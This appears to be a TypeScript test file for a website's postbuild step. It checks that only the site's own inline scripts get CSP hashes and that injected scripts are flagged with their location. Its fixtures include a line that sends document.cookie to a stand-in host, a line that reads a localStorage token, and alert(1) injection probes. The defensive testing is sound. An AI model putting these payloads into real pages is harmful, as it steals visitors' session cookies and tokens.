import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { inlineScripts, scriptHash } from '../deploy/security';
import { speculationRules } from '../lib/browser/speculation-rules';
import { isKnownScript, knownScriptHashes, unknownScripts } from './known-scripts';
import { rewritePage } from './postbuild-pages';
import { BOOT_SCRIPT } from './startup-scripts';

const fixtures = path.join(__dirname, '__fixtures__/next-export');
const pages = readdirSync(fixtures, { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.html'));
const script = (body: string, attrs = '') => ({ attrs, body, index: 0 });

describe('the inline scripts the site writes', () => {
  it.each(pages)('are every inline script of %s as postbuild leaves it', (page) => {
    const html = rewritePage(readFileSync(path.join(fixtures, page), 'utf8'));
    expect(inlineScripts(html).length).toBeGreaterThan(2);
    expect(unknownScripts(html)).toEqual([]);
  });

  it('are recognised by their exact text or as a call on one JSON literal', () => {
    expect(isKnownScript(script(BOOT_SCRIPT))).toBe(true);
    expect(isKnownScript(script(JSON.stringify(speculationRules), ' type="speculationrules"'))).toBe(true);
    expect(isKnownScript(script('(self.__next_f=self.__next_f||[]).push([0])'))).toBe(true);
    expect(isKnownScript(script('self.__next_f.push([1,"0:[\\"$\\",\\"html\\"]\\n"])'))).toBe(true);
    expect(isKnownScript(script('(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"a":[1]})'))).toBe(
      true,
    );
  });

  it.each([
    ['any other script', 'fetch("/x?k="+localStorage.getItem("token"))'],
    ['a flight push with code after it', 'self.__next_f.push([1]);alert(1);(1)'],
    ['a flight push whose argument is an expression', 'self.__next_f.push([1,alert(1)])'],
    ['a bootstrap push with code inside', '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push(alert(1))'],
    ['the boot script with a line added', `${BOOT_SCRIPT};alert(1)`],
    ['the speculation rules as a plain script', JSON.stringify(speculationRules)],
  ])('are not %s', (_, body) => {
    expect(isKnownScript(script(body))).toBe(false);
  });
});

describe('a page with a script injected into its content', () => {
  const about = rewritePage(readFileSync(path.join(fixtures, 'about.html'), 'utf8'));
  const injected = 'fetch("https://evil.example/?"+document.cookie)';

  it('is not approved by its CSP and is named, with where the script sits', () => {
    const inMain = rewritePage(about.replace('</main>', `<script>${injected}</script></main>`));
    expect(knownScriptHashes(inMain)).not.toContain(scriptHash(injected));
    expect(inMain).not.toContain(scriptHash(injected));
    expect(unknownScripts(inMain)).toEqual([
      `an inline script the site does not write, inside <main> (it starts ${JSON.stringify(injected.slice(0, 60))})`,
    ]);
    const inArticle = about.replace('</main>', `<article><p>Hi</p><script>${injected}</script></article></main>`);
    expect(unknownScripts(inArticle)).toEqual([expect.stringContaining('inside <article>')]);
    const inBody = about.replace('</body>', `<script>${injected}</script></body>`);
    expect(unknownScripts(inBody)).toEqual([expect.stringMatching(/^an inline script the site does not write \(/)]);
  });

  it('is found whatever the case of its tag, and its hash is never approved', () => {
    const upper = about.replace('</main>', `<SCRIPT TYPE="text/javascript">${injected}</SCRIPT ></main>`);
    expect(inlineScripts(upper).map((found) => found.body)).toContain(injected);
    expect(unknownScripts(upper)).toEqual([expect.stringContaining('inside <main>')]);
    expect(knownScriptHashes(upper)).not.toContain(scriptHash(injected));
  });

  it('is named even when it is shaped like the framework data the site writes, as it sits inside the content', () => {
    const flight = 'self.__next_f.push([1,"0:[\\"$\\",\\"p\\"]\\n"])';
    expect(isKnownScript(script(flight))).toBe(true);
    const inArticle = about.replace('</main>', `<article><script>${flight}</script></article></main>`);
    expect(unknownScripts(inArticle)).toEqual([
      `an inline script shaped like one the site writes, inside <article> (it starts ${JSON.stringify(flight)})`,
    ]);
  });
});
